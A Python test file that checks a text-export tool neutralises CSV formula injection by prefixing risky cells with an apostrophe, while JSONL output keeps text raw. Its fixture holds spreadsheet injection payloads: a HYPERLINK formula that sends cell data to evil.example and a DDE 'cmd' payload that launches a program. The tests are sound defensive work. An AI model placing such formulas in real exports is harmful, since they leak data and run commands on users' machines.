"""Red team 18 F12: CSV cells a spreadsheet would run as a formula start with ' (OWASP); other formats raw."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from curator.cli import main

PAGE = ('Title of the page\n\n=HYPERLINK("http://evil.example/?q="&A1,"Click")\n\n'
        "+cmd|'/C calc'!A0\n\n@SUM(1+1)\n\n-2+3\n")


def _corpus(tmp_path: Path) -> Path:
    root = tmp_path / "x"
    root.mkdir()
    (root / "p.txt").write_text(PAGE, encoding="utf-8")
    return root


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    root = _corpus(tmp_path)
    out = tmp_path / "x.csv"
    assert main(["export", str(root), "--format", "csv", "--level", "segment", "--include", "all", "-q",
                 "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [v for row in csv.DictReader(fh) for v in row.values()]
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")" in cells
    assert "'+cmd|'/C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_jsonl_keeps_the_text_as_it_is(tmp_path: Path) -> None:
    root = _corpus(tmp_path)
    out = tmp_path / "x.jsonl"
    assert main(["export", str(root), "--format", "jsonl", "--level", "segment", "--include", "all", "-q",
                 "--out", str(out)]) == 0
    texts = [json.loads(line)["text"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert any(t.startswith("=HYPERLINK(") for t in texts)
